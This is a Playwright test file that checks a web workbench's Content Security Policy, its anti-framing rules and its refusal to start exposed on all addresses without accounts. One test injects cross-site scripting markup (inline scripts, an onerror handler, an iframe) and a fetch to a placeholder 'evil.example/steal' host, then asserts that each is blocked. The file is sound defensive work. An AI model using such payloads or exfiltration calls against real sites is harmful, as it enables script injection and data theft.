import { spawnSync } from 'node:child_process';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { PATIENCE_MS, SAMPLE, dropFiles, launchBrowser, openWorkbench, serverUrl } from './support/browser';
import { recordViolations, violations } from './support/violations';

let browser: Browser;
let context: BrowserContext;

beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(() => browser.close());
beforeEach(async () => {
  context = await browser.newContext({ viewport: { width: 1440, height: 900 } });
  await recordViolations(context);
});
afterEach(() => context.close());

async function useTheWorkbench(page: Page): Promise<void> {
  await dropFiles(page, [SAMPLE]);
  await page.waitForSelector('[data-attachment=ready]');
  await page.keyboard.press('Control+Shift+P');
  await page.keyboard.type('Settings');
  await page.keyboard.press('Enter');
  await page.waitForTimeout(1000);
}

test('the workbench works without breaking its own policy', async () => {
  const { page, errors } = await openWorkbench(browser, { context });
  await useTheWorkbench(page);
  expect(await violations(page)).toEqual([]);
  expect(errors).toEqual([]);
});

test('every script of the page carries the nonce of its response', async () => {
  const response = await fetch(serverUrl());
  const nonce = /'nonce-([^']+)'/.exec(response.headers.get('content-security-policy') ?? '')?.[1];
  const scripts = [...(await response.text()).matchAll(/<script\b([^>]*)>/g)].map((match) => match[1] ?? '');
  expect(scripts.length).toBeGreaterThan(3);
  for (const attributes of scripts) {
    expect([attributes, attributes.includes(`nonce="${nonce}"`)]).toEqual([attributes, true]);
  }
});

/** The workbench's page as if an attacker had got markup into it: the server's own headers, one more piece of HTML. */
async function openWithMarkup(markup: string): Promise<Page> {
  const page = await context.newPage();
  await page.route(serverUrl() + '/', async (route) => {
    const response = await route.fetch();
    const html = await response.text();
    await route.fulfill({ response, body: html.replace('</body>', `${markup}</body>`) });
  });
  await page.goto(serverUrl());
  await page.waitForSelector('[data-workbench]');
  return page;
}

test('an inline script, an event handler and a script from elsewhere do not run', async () => {
  const page = await openWithMarkup(
    [
      '<script>globalThis.ranInline = true</script>',
      '<script nonce="guessed">globalThis.ranGuessed = true</script>',
      '<script src="/api/health"></script>',
      '<img src="data:," onerror="globalThis.ranHandler = true">',
      '<iframe src="https://evil.example"></iframe>',
    ].join(''),
  );
  await page.evaluate(() => fetch('https://evil.example/steal').catch(() => undefined));
  const ran = await page.evaluate(() => ['ranInline', 'ranGuessed', 'ranHandler'].filter((name) => name in globalThis));
  expect(ran).toEqual([]);
  const noted = (await violations(page)).join('\n');
  expect(noted.match(/script-src-elem inline/g)).toHaveLength(2);
  expect(noted).toContain('script-src-elem ' + serverUrl() + '/api/health');
  expect(noted).toContain('script-src-attr inline');
  expect(noted).toMatch(/frame-src https:\/\/evil\.example/);
  expect(noted).toContain('connect-src https://evil.example/steal');
});

test('the built server started by hand on all addresses without accounts ends at once', () => {
  const args = ['node_modules/next/dist/bin/next', 'start', '--hostname', '0.0.0.0', '--port', '0'];
  const env = { ...process.env, NODE_ENV: 'production' as const };
  const result = spawnSync(process.execPath, args, { env, encoding: 'utf8', timeout: PATIENCE_MS });
  expect(result.status).toBe(1);
  expect(result.stderr).toContain('set LOOKTWICE_MODE=team, or listen on 127.0.0.1');
});

test('another site can neither frame the workbench nor read from it', async () => {
  const page = await context.newPage();
  await page.route('http://other.example/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${serverUrl()}"></iframe>` }),
  );
  await page.goto('http://other.example/');
  await page.waitForTimeout(1000);
  const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
  expect(await frame?.locator('[data-workbench]').count()).toBe(0);
  const read = await page.evaluate(
    (url) =>
      fetch(`${url}/api/conversations`).then(
        () => 'read',
        () => 'refused',
      ),
    serverUrl(),
  );
  expect(read).toBe('refused');
});
